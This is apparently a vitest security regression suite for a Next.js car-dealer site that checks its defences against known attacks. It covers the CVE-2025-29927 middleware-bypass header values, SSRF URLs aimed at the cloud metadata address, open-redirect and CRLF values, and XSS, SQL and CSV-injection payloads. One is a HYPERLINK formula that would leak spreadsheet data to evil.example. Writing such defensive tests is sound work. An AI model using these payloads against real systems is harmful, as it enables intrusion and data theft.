import { describe, expect, inject, it } from 'vitest';
import { dealerLeadsPassword } from '#src/server/leads/leadsAuth';

/**
 * Known attacks on Next sites, pinned against the production server (docs/security.md). Each
 * test sends the attack and checks the defence still answers; none needs credentials except the
 * leads API's read-back, which uses a dealer's password derived as the site derives it.
 */
const baseURL = inject('baseURL');
const sitekey = 'kerbside';

/* The leads API (#16, docs/leads.md). A partner offer's lead needs no dealer in the catalogue. */
const leadsPath = '/api/leads';
/** LEADS_API_SECRET as server.global.ts starts the site with it. */
const leadsSecret = `leads-${inject('searchAdminSecret')}`;
const partner = 'partner-warranty';
const partnerAuth = `Basic ${Buffer.from(`${partner}:${dealerLeadsPassword(leadsSecret, partner)}`).toString('base64')}`;
let leadClients = 0;
/** Each request claims its own client address, so no lead, draft or login limit of another suite is met. */
const adminClient = { 'x-forwarded-for': `known-attacks-admin-${process.pid}` };
const leadClient = () => ({ 'x-forwarded-for': `known-attacks-${Date.now()}-${(leadClients += 1)}` });
const validLead = (fields: Record<string, unknown> = {}) => ({
  kind: 'warranty',
  dealerId: partner,
  name: 'Alex Driver',
  email: 'alex@example.com',
  postcode: 'LS1 4AP',
  consent: true,
  ...fields,
});
/** A lead as a plain form post (a ticked box sends 'on'). */
const leadForm = (fields: Record<string, unknown>) =>
  new URLSearchParams(
    Object.entries(validLead(fields)).map(([name, value]): [string, string] => [
      name,
      value === true ? 'on' : String(value),
    ]),
  ).toString();
const postLead = (body: string, headers: Record<string, string>) =>
  fetch(`${baseURL}${leadsPath}`, {
    method: 'POST',
    body,
    redirect: 'manual',
    headers: { ...leadClient(), ...headers },
  });
const partnerLeads = async (format: 'json' | 'csv') => {
  const response = await fetch(`${baseURL}${leadsPath}?dealer=${partner}&format=${format}`, {
    headers: { authorization: partnerAuth, ...leadClient() },
  });
  expect(response.status, format).toBe(200);
  return response;
};

describe('known attacks', () => {
  it('CVE-2025-29927: an x-middleware-subrequest header does not skip the proxy', async () => {
    // Values that skipped middleware in affected releases (the recursion-depth form included).
    const values = [
      'proxy',
      'middleware',
      'src/middleware',
      'proxy:proxy:proxy:proxy:proxy',
      'middleware:middleware:middleware:middleware:middleware',
      'src/middleware:src/middleware:src/middleware:src/middleware:src/middleware',
    ];
    for (const value of values) {
      // The proxy names the page shell it chose on every page it lets through, and marks the
      // noindex deals page; both pages are rendered per request, so no cache can answer for it.
      const page = await fetch(`${baseURL}/search?search=golf`, { headers: { 'x-middleware-subrequest': value } });
      expect(page.status, value).toBe(200);
      expect(page.headers.get('x-kerbside-shell'), value).toBe('fixed');
      const noIndex = await fetch(`${baseURL}/new-cars-in-stock`, { headers: { 'x-middleware-subrequest': value } });
      expect(noIndex.headers.get('x-robots-tag'), value).toBe('noindex');
    }
  });

  it('RSC and prefetch variants of protected routes still ask for credentials', async () => {
    const documents = `/api/search/v2/indices/${sitekey}/documents/no-such-document`;
    const variants: Array<[string, RequestInit]> = [
      [`${documents}?_rsc=1a2b3`, {}],
      [`${documents}.rsc`, {}],
      [documents, { headers: { rsc: '1', 'next-router-prefetch': '1' } }],
      ['/api/revalidate?_rsc=1a2b3', { method: 'POST', body: '{"all":true}', headers: { rsc: '1' } }],
      // The search insights page (the proxy asks for credentials before anything renders).
      ['/search-insights', {}],
      ['/search-insights?_rsc=1a2b3', {}],
      ['/search-insights.rsc', {}],
      ['/search-insights', { headers: { rsc: '1' } }],
      ['/search-insights', { headers: { rsc: '1', 'next-router-prefetch': '1' } }],
      ['/search-insights', { headers: { rsc: '1', 'next-router-segment-prefetch': '/_tree' } }],
      ['/search-insights', { headers: { 'x-middleware-subrequest': 'proxy:proxy:proxy:proxy:proxy' } }],
      ['/search%2Dinsights', {}],
      ['/search-insights/', {}],
    ];
    for (const [path, init] of variants) {
      // Redirects followed: Next answers a request with an RSC header by a 307 that adds a
      // cache-busting `_rsc` parameter, and the request that follows must still be refused.
      // Under a client of its own: these refused logins must not use up the failure limiter's
      // allowance of the suites that run after this one from the same machine.
      const headers = { ...(init.headers as Record<string, string> | undefined), ...adminClient };
      const response = await fetch(`${baseURL}${path}`, { ...init, headers });
      // 401 asks for credentials; a 429 (the failure limiter, after other suites' bad logins)
      // refuses too. Anything else would mean the variant reached the handler's work.
      expect([401, 429], path).toContain(response.status);
      if (response.status === 401) expect(response.headers.get('www-authenticate'), path).toMatch(/^Basic /);
    }
    // The shell route itself is not reachable from outside: the proxy rewrites it into a shell again.
    for (const shell of ['fixed', 'phone']) {
      const direct = await fetch(`${baseURL}/${shell}/search-insights`);
      expect(direct.status, shell).toBe(404);
    }
  });

  it('/_next/image refuses a host that is not on the list', async () => {
    for (const url of ['https://evil.example/car.png', '//evil.example/car.png', 'http://169.254.169.254/latest']) {
      const response = await fetch(`${baseURL}/_next/image?url=${encodeURIComponent(url)}&w=64&q=75`, {
        redirect: 'manual',
      });
      expect(response.status, url).toBe(400);
      expect(response.headers.get('content-type') ?? '', url).not.toMatch(/^image\//);
    }
  });

  it('the leads API refuses a cross-site form post, an oversized body and a forged 10 kB Idempotency-Key, storing nothing', async () => {
    const marker = `Attacker ${Date.now()}`;
    const crossSite = await postLead(leadForm({ name: marker, returnTo: '/get-quotes' }), {
      'content-type': 'application/x-www-form-urlencoded',
      'sec-fetch-site': 'cross-site',
    });
    expect(crossSite.status).toBe(403);
    expect(crossSite.headers.get('location')).toBeNull();

    const oversized = await postLead(JSON.stringify(validLead({ name: marker, message: 'x'.repeat(20_000) })), {
      'content-type': 'application/json',
    });
    expect(oversized.status).toBe(413);

    const forged = await postLead(JSON.stringify(validLead({ name: marker })), {
      'content-type': 'application/json',
      'idempotency-key': 'k'.repeat(10_240),
    });
    expect(forged.status).toBe(400);
    expect(((await forged.json()) as { error: { parameter?: string } }).error.parameter).toBe('Idempotency-Key');

    expect(await (await partnerLeads('json')).text()).not.toContain(marker);
  });

  it('the leads form never redirects off the site, whatever returnTo holds', async () => {
    const returnTos = [
      'https://evil.example/get-quotes',
      '//evil.example/get-quotes',
      '/\\evil.example/get-quotes',
      '/%2F%2Fevil.example',
      'javascript:alert(document.domain)',
      '/get-quotes/../search-insights',
      '/get-quotes/%2e%2e/admin',
      '/get-quotes\r\nSet-Cookie: session=evil',
    ];
    const site = new URL(baseURL);
    for (const returnTo of returnTos) {
      // A lead with a field missing, so the form goes back to returnTo with a draft.
      const response = await postLead(leadForm({ name: '', returnTo }), {
        'content-type': 'application/x-www-form-urlencoded',
      });
      expect(response.status, returnTo).toBe(303);
      const location = response.headers.get('location') ?? '';
      expect(location, returnTo).not.toMatch(/^\/\/|\\/);
      const target = new URL(location, baseURL);
      expect(target.origin, returnTo).toBe(site.origin);
      expect(target.pathname, returnTo).toBe('/get-quotes');
      expect(response.headers.get('set-cookie'), returnTo).toBeNull();
    }
  });

  it('script and SQL payloads in a lead come back escaped as JSON and defused in the CSV', async () => {
    const payloads = {
      name: `<script>alert(1)</script>'; DROP TABLE leads; -- ${Date.now()}`,
      email: '=1+2@example.com',
      phone: '+44 7700 900982',
      message: '=HYPERLINK("http://evil.example/?leak="&A1,"Click") "><img src=x onerror=alert(1)> \' OR 1=1 --',
      derivativeId: 'golf:1--',
      dealId: 'deal.1.OR.1',
    };
    const posted = await postLead(JSON.stringify(validLead(payloads)), { 'content-type': 'application/json' });
    expect(posted.status).toBe(201);
    const { reference } = (await posted.json()) as { reference: string };

    const json = await partnerLeads('json');
    expect(json.headers.get('content-type')).toMatch(/^application\/json/);
    expect(json.headers.get('x-content-type-options')).toBe('nosniff');
    const text = await json.text();
    expect(text).not.toMatch(/[<>]/); // escaped as \u003c and \u003e
    const lead = (JSON.parse(text) as { items: Array<Record<string, unknown>> }).items.find(
      (item) => item.reference === reference,
    );
    expect(lead).toMatchObject(payloads);

    const csv = await partnerLeads('csv');
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment;/);
    const row = (await csv.text()).split('\r\n').find((line) => line.startsWith(`${reference},`));
    expect(row).toBeDefined();
    // Each payload that starts like a formula gets a leading apostrophe (and quotes when it needs them).
    expect(row).toContain(",'=1+2@example.com,'+44 7700 900982,");
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")`);
    expect(row).not.toMatch(/,[=+\-@]/);
  });
});
